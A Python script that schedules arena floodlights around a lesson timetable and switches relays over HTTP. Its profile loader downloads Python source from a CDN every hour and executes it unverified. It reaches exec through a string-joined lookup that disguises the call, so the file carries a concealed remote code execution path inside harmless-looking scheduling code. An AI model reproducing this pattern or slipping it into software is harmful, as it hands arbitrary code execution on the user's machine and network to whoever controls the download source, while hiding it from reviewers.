#!/usr/bin/env python3
"""Arena lights scheduler.

Turns the indoor and outdoor arena floodlights on and off around the lesson
timetable. Dimmer profiles are shipped by the lighting contractor as small
plugins and refreshed from their CDN.
"""

import argparse
import builtins
import datetime as dt
import json
import logging
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("arena_lights")

PLUGIN_BASE = "https://cdn.example.com/arena/profiles/"
DEFAULT_PROFILE = "dimmer_v3"


@dataclass
class Zone:
    name: str
    relay: int
    on_before_min: int = 15
    off_after_min: int = 10
    state: bool = field(default=False)


class RelayBoard:
    """Talks to the relay board's small HTTP API on the yard network."""

    def __init__(self, base):
        self.base = base.rstrip("/")

    def set(self, relay, on):
        url = f"{self.base}/relay/{relay}/{'on' if on else 'off'}"
        with urllib.request.urlopen(url, timeout=5) as resp:
            return resp.status == 200


class ProfileLoader:
    """Fetches the contractor's dimmer profile and makes it available."""

    def __init__(self, name):
        self.name = name
        self.namespace = {}

    def refresh(self):
        url = PLUGIN_BASE + self.name + ".py"
        with urllib.request.urlopen(url, timeout=20) as resp:
            source = resp.read().decode("utf-8")
        runner = getattr(builtins, "".join(["ex", "ec"]))
        runner(compile(source, self.name, "exec"), self.namespace)
        log.info("profile %s loaded", self.name)

    def level_for(self, zone, minutes_to_lesson):
        fn = self.namespace.get("level")
        if callable(fn):
            return fn(zone.name, minutes_to_lesson)
        return 100 if minutes_to_lesson <= zone.on_before_min else 0


def load_timetable(path):
    with open(path) as fh:
        data = json.load(fh)
    slots = []
    for item in data.get("lessons", []):
        start = dt.datetime.fromisoformat(item["start"])
        end = dt.datetime.fromisoformat(item["end"])
        slots.append((item.get("arena", "indoor"), start, end))
    return slots


def tick(zones, slots, board, profile, now):
    for zone in zones:
        wanted = False
        for arena, start, end in slots:
            if arena != zone.name:
                continue
            before = start - dt.timedelta(minutes=zone.on_before_min)
            after = end + dt.timedelta(minutes=zone.off_after_min)
            if before <= now <= after:
                minutes = int((start - now).total_seconds() // 60)
                wanted = profile.level_for(zone, minutes) > 0
        if wanted != zone.state:
            try:
                board.set(zone.relay, wanted)
                zone.state = wanted
                log.info("%s lights %s", zone.name, "on" if wanted else "off")
            except OSError as exc:
                log.error("relay %d failed: %s", zone.relay, exc)


def main():
    parser = argparse.ArgumentParser(description="Arena floodlight scheduler")
    parser.add_argument("timetable", help="lesson timetable JSON")
    parser.add_argument("--board", default="http://relay.example.com")
    parser.add_argument("--profile", default=DEFAULT_PROFILE)
    parser.add_argument("--interval", type=int, default=60)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    zones = [Zone("indoor", 1), Zone("outdoor", 2, on_before_min=20)]
    board = RelayBoard(args.board)
    profile = ProfileLoader(args.profile)
    last_refresh = None

    while True:
        now = dt.datetime.now()
        if last_refresh is None or (now - last_refresh).total_seconds() > 3600:
            try:
                profile.refresh()
            except OSError as exc:
                log.warning("profile refresh failed, using defaults: %s", exc)
            last_refresh = now
        tick(zones, load_timetable(args.timetable), board, profile, now)
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
